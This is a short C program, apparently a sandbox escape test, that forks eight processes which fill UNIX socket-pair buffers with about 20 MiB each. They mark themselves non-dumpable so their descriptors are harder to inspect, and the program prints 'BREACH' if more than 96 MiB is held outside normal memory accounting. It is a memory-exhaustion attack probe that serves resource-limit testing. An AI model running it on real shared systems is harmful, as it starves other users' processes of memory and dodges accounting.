// use memory in socket pairs of processes that hide their descriptors
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    static char block[1 << 18];
    size_t held = 0;
    int report[2];
    if (pipe(report) < 0) return 1;
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    for (int child = 0; child < 8; child++) {
        int ends[2];
        size_t mine = 0;
        if (fork()) continue;
        while (mine < 20u << 20 && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0)
            for (int i = 0; i < 2; i++)
                for (ssize_t n; (n = write(ends[i], block, sizeof block)) > 0;) mine += (size_t)n;
        if (write(report[1], &mine, sizeof mine)) pause();
    }
    for (int child = 0; child < 8; child++) {
        size_t mine = 0;
        if (read(report[0], &mine, sizeof mine) > 0) held += mine;
    }
    usleep(1000000); // a busy machine may not look at it for long
    printf("%s holds %zu MiB\n", held > 96u << 20 ? "BREACH" : "DONE", held >> 20);
}
